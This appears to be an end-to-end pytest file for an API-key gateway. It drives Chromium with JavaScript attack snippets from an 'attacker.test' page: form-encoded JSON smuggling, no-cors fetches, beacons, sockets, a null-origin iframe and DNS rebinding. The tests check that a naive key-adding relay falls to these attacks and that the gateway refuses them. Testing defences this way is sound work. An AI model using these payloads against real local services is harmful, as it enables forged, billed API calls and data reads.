"""Pages that mean harm, in a real Chromium, before a gateway and before a relay that checks nothing.

They know a client key, which makes it harder for the gateway than it is.
"""

import contextlib
import json
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any, Final, TypeAlias
from urllib.parse import urlsplit

import anthropic
import pytest

from e2e.chromium import Browser, chromium
from e2e.parties import SandboxProcess, eventually, running, tokenferry

pytestmark = pytest.mark.e2e

NAME: Final = "attacker.test"
NAMES: Final = f"MAP {NAME} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
MESSAGE: Final = {"model": "claude-sonnet-5-5", "max_tokens": 9, "messages": [{"role": "user", "content": "mine"}]}
PATH: Final = "/v1/messages"
ANSWER: Final = "Hello from the sandbox, you said: mine"

# Each gives what the page learns: a text, or null where the browser lets it see nothing.
FORM: Final = """({ url, message, kind }) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame';
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { action: url, method: 'POST', enctype: kind, target: 'frame' });
  const field = document.createElement('input');
  field.name = JSON.stringify(message).slice(0, -1) + ',"metadata":{"user_id":"';
  field.value = '"}}';
  form.append(field);
  document.body.append(form);
  frame.onload = () => {
    if (frame.contentWindow.location === 'about:blank') return;
    done(null);
  };
  form.submit();
})"""
FETCH: Final = """({ url, message, mode, method, headers, path }) =>
  fetch(url, { method, mode, headers, body: method === 'POST' ? JSON.stringify(message) : undefined })
    .then((answer) => answer.text())
    .then((text) => text || null, () => null)
"""
ELEMENT: Final = """({ url, tag }) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = element.onerror = () => done(null);
  element.src = url;
  document.body.append(element);
})"""
BEACON: Final = """({ url, message }) => {
  navigator.sendBeacon(url, new Blob([JSON.stringify(message)], { type: 'text/plain' }));
}"""
SOCKET: Final = """({ url }) => new Promise((done) => {
  const socket = new WebSocket(url.replace('http', 'ws'));
  socket.onopen = () => done('opened');
  socket.onerror = () => done(null);
})"""
NOWHERE: Final = """({ url, message }) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts';
  const script = `fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(
    JSON.stringify(message))} }).finally(() => parent.postMessage('done', '*'))`;
  frame.srcdoc = `<script>${script}<\\/script>`;
  addEventListener('message', () => done(null), { once: true });
  document.body.append(frame);
})"""


@dataclass(frozen=True)
class Attack:
    """What a page of another site does. `method` is what arrives where nobody checks, with an answer of 200 or not."""

    function: str
    given: dict[str, Any] = field(default_factory=dict)
    method: str = "POST"
    path: str = PATH


JSON: Final = {"content-type": "application/json", "anthropic-version": "2023-06-01"}
ACROSS: Final = {
    "a form of plain text": Attack(FORM, {"kind": "text/plain"}),
    "a form": Attack(FORM, {"kind": "application/x-www-form-urlencoded"}),
    "a form of parts": Attack(FORM, {"kind": "multipart/form-data"}),
    "a simple request": Attack(FETCH, {"method": "POST", "mode": "no-cors"}),
    "a simple request for reading": Attack(
        FETCH, {"method": "GET", "mode": "no-cors"}, method="GET", path="/v1/models"
    ),
    "a request that asks first": Attack(FETCH, {"method": "POST", "mode": "cors", "headers": JSON}, method="OPTIONS"),
    "an image": Attack(ELEMENT, {"tag": "img"}, method="GET", path="/v1/models"),
    "a script": Attack(ELEMENT, {"tag": "script"}, method="GET", path="/v1/models"),
    "a frame": Attack(ELEMENT, {"tag": "iframe"}, method="GET", path="/v1/models"),
    "a beacon": Attack(BEACON),
    "a page without an origin": Attack(NOWHERE),
    "a socket": Attack(SOCKET, method="GET"),
}
REBOUND: Final[dict[str, dict[str, Any]]] = {
    "to read": {"method": "GET", "path": "/v1/models"},
    "to ask": {"method": "POST", "path": PATH, "headers": JSON},
    "the page itself": {"method": "GET", "path": "/"},
}
Arrived: TypeAlias = list[tuple[str, str]]


@dataclass
class Site:
    """What listens on a port: a page of the attacker's, or a relay that adds the account's key to whatever comes."""

    url: str = ""
    port: int = 0
    seen: Arrived = field(default_factory=list)


@contextlib.contextmanager
def site(*, port: int = 0, upstream: str | None = None, credential: str = "") -> Iterator[Site]:
    there = Site()
    target = None if upstream is None else urlsplit(upstream).netloc
    connections: list[socket.socket] = []

    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            super().setup()
            connections.append(self.connection)

        def _answer(self) -> None:
            if target is None:
                self._send(200, "text/html", b"<!doctype html><title>harm</title><body>")
                return
            there.seen.append((self.command, self.path))
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            headers = {"x-api-key": credential, "anthropic-version": "2023-06-01", "content-type": "application/json"}
            with contextlib.closing(HTTPConnection(target, timeout=60)) as connection:
                connection.request(self.command, self.path, body, headers)
                answer = connection.getresponse()
                self._send(answer.status, answer.getheader("content-type", "text/plain"), answer.read())

        def _send(self, status: int, kind: str, content: bytes) -> None:
            self.send_response(status)
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_GET = do_HEAD = do_POST = do_OPTIONS = _answer  # noqa: N815  # the names the base class calls

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # as the base class names it
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", port), Handler) as server:
        there.port = server.server_address[1]
        there.url = f"http://127.0.0.1:{there.port}"
        thread = Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield there
        finally:
            server.shutdown()
            thread.join()
            for connection in connections:  # a browser keeps some that it made in advance
                with contextlib.suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)


@pytest.fixture
def api_key(sandbox: SandboxProcess) -> str:
    """An account's own key, known to the gateway as `dave`."""
    issued = sandbox.api_key()
    outcome = tokenferry("account", "add", "dave", "--provider", "sandbox", "--kind", "api-key", stdin=issued)
    assert outcome.code == 0, outcome.err
    return issued


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    with chromium(tmp_path, names=NAMES) as browser:
        yield browser


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port: int = server.getsockname()[1]
        return port


def arrived(sandbox: SandboxProcess) -> Arrived:
    return [(request["method"], request["path"]) for request in sandbox.requests("/")]


def attack(
    browser: Browser, target: str, key: str, seen: Callable[[], int], *, path: str | None = None
) -> dict[str, Any]:
    """Do all of it from another site, to one path perhaps; give what its pages learnt."""
    learnt = {}
    with site() as page:
        for name, one in ACROSS.items():
            before = seen()
            assert browser.open(f"http://{NAME}:{page.port}/")["status"] == 200
            given = {"url": target + (path or one.path), "message": MESSAGE, **one.given}
            if "headers" in given:
                given["headers"] = {**given["headers"], "x-api-key": key}
            learnt[name] = browser.run(one.function, given)
            eventually(lambda before=before: seen() > before, f"{name} has arrived")  # type: ignore[misc]  # the default binds it now
    return learnt


def rebind(browser: Browser, port: int, key: str) -> dict[str, str | None]:
    """Read through a page that came from this port when its name still meant somebody else's server."""
    learnt = {}
    for name, one in REBOUND.items():
        headers = {**one.get("headers", {}), "x-api-key": key}
        given = {**one, "url": f"http://{NAME}:{port}{one['path']}", "message": MESSAGE, "headers": headers}
        learnt[name] = browser.run(FETCH, given)
    return learnt


def test_both_attacks_work_where_nothing_is_checked(browser: Browser, sandbox: SandboxProcess, api_key: str) -> None:
    with site(upstream=sandbox.url, credential=api_key) as naive:
        attack(browser, naive.url, "", lambda: len(naive.seen))
        assert naive.seen == [(one.method, one.path) for one in ACROSS.values()]
        answered = [request["method"] for request in sandbox.requests("/v1") if request["status"] == 200]
        assert answered.count("POST") >= 3, "forged requests were paid for"

    port = free_port()
    with site(port=port):
        browser.open(f"http://{NAME}:{port}/")
    with site(port=port, upstream=sandbox.url, credential=api_key):
        learnt = rebind(browser, port, "")
    assert ANSWER in str(learnt["to ask"]), learnt
    assert "claude" in str(learnt["to read"])


def test_neither_works_against_the_gateway(
    browser: Browser, sandbox: SandboxProcess, api_key: str, tmp_path: Path
) -> None:
    port = free_port()
    with site(port=port):
        browser.open(f"http://{NAME}:{port}/")
    with running("serve", tmp_path, port=port) as gateway:
        key = tokenferry("token", "--gateway").out.strip()
        learnt = rebind(browser, port, key)
        assert {name: json.loads(text or "{}")["error"]["type"] for name, text in learnt.items()} == dict.fromkeys(
            REBOUND, "invalid_request_error"
        )
        assert "does not answer to that Host" in str(learnt["to ask"])

        def refused() -> int:
            return sum("status=" in line for line in gateway.log.read_text().splitlines())

        learnt = attack(browser, gateway.url, key, refused)
        assert learnt == dict.fromkeys(ACROSS)
        assert arrived(sandbox) == []

        with anthropic.Anthropic(base_url=gateway.url, auth_token=key, max_retries=0) as client:
            client.messages.create(
                model="claude-sonnet-5-5", max_tokens=9, messages=[{"role": "user", "content": "hi"}]
            )
        assert arrived(sandbox) == [("POST", PATH)]
